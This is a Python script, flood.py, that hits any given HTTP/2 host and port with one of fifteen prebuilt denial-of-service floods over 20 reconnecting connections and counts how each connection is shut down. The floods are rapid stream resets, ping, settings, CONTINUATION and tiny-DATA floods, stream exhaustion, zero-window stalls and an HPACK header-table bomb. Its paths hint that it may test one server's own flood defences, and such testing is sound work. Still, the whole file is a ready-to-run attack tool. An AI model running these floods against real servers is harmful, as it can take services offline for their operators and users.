"""A client of HTTP/2 that sends one kind of frames as fast as it can, and begins again when its connection ends.

flood.py HOST PORT FLOOD SECONDS
Prints how many connections it had, and by which codes they ended. Without arguments, prints the names of the floods.
"""
import collections
import selectors
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CONNECTIONS = 20
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 3: "FLOW_CONTROL_ERROR", 5: "STREAM_CLOSED", 11: "ENHANCE_YOUR_CALM"}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def number(value):
    return struct.pack(">I", value)


def setting(key, value):
    return struct.pack(">HI", key, value)


def text(value):
    return bytes([len(value)]) + value


def request(method=b"GET", path=b"/page.html"):
    return b"".join(b"\0" + text(name) + text(value) for name, value in (
        (b":method", method), (b":scheme", b"http"), (b":authority", b"localhost"), (b":path", path)))


GET, POST, LARGE = request(), request(b"POST", b"/hello"), request(path=b"/large.bin")
STREAMS = range(1, 8000, 2)
# 4000 bytes that stay in the table, and 16,000 references to them
KEPT = b"\x40\x01x\x7f\xa1\x1e" + b"v" * 4000
FLOODS = {
    "cancelled": b"".join(frame(1, 5, i, GET) + frame(3, 0, i, number(8)) for i in STREAMS),
    "made-to-reset": b"".join(frame(1, 5, i, GET) + frame(8, 0, i, number(0)) for i in STREAMS),
    "too-many-streams": b"".join(frame(1, 4, i, POST) for i in STREAMS),
    "settings": b"".join(frame(4, 0, 0, setting(4, i)) for i in range(5000)),
    "ping": frame(6, 0, 0, bytes(8)) * 10000,
    "priority": frame(2, 0, 1, bytes(5)) * 10000,
    "windows": frame(8, 0, 0, number(1)) * 10000,
    "unknown": frame(99, 0, 0) * 10000,
    "no-content": frame(1, 4, 1, POST) + frame(0, 0, 1) * 10000,
    "little-content": frame(1, 4, 1, POST) + frame(0, 0, 1, b"a") * 30000,
    "continuation": frame(1, 1, 1, GET) + frame(9, 0, 1) * 10000,
    "header-bomb": frame(1, 5, 1, GET + KEPT) + b"".join(
        frame(1, 5, i, GET + b"\xbe" * 16000) for i in range(3, 200, 2)),
    "closed-windows": frame(4, 0, 0, setting(4, 0)) + b"".join(frame(1, 5, i, LARGE) for i in range(1, 200, 2)),
    "endless-heads": frame(1, 1, 1, GET),
    "unfinished": b"".join(frame(1, 4, i, POST) for i in range(1, 200, 2)),
}


class Attacker:

    def __init__(self, address, bytes_to_send, ends):
        self.socket = socket.create_connection(address, timeout=10)
        self.socket.setblocking(False)
        self.left = memoryview(PREFACE + frame(4, 0, 0) + frame(4, 1, 0) + bytes_to_send)
        self.received = b""
        self.ends = ends

    def send(self):
        """Whether there is more."""
        self.left = self.left[self.socket.send(self.left[:65536]):]
        return bool(self.left)

    def receive(self):
        """Whether the connection goes on."""
        part = self.socket.recv(262144)
        self.received += part
        while len(self.received) >= 9:
            length = int.from_bytes(self.received[:3], "big")
            if len(self.received) < 9 + length:
                break
            if self.received[3] == 7:
                code = int.from_bytes(self.received[13:17], "big")
                self.ends[CODES.get(code, code)] += 1
                return False
            self.received = self.received[9 + length:]
        if not part:
            self.ends["closed"] += 1
        return bool(part)


def flood(address, name, seconds):
    selector, ends, connections = selectors.DefaultSelector(), collections.Counter(), 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        while len(selector.get_map()) < CONNECTIONS:
            attacker = Attacker(address, FLOODS[name], ends)
            selector.register(attacker.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, attacker)
            connections += 1
        for key, events in selector.select(0.1):
            attacker = key.data
            try:
                if events & selectors.EVENT_WRITE and not attacker.send():
                    selector.modify(attacker.socket, selectors.EVENT_READ, attacker)
                goes_on = not events & selectors.EVENT_READ or attacker.receive()
            except OSError:
                ends["reset"] += 1
                goes_on = False
            if not goes_on:
                selector.unregister(attacker.socket)
                attacker.socket.close()
    counts = ", ".join(f"{count} {code}" for code, count in ends.most_common())
    print(f"{connections} connections; ended: {counts or 'none'}")


if len(sys.argv) == 1:
    print(*FLOODS)
else:
    flood((sys.argv[1], int(sys.argv[2])), sys.argv[3], float(sys.argv[4]))
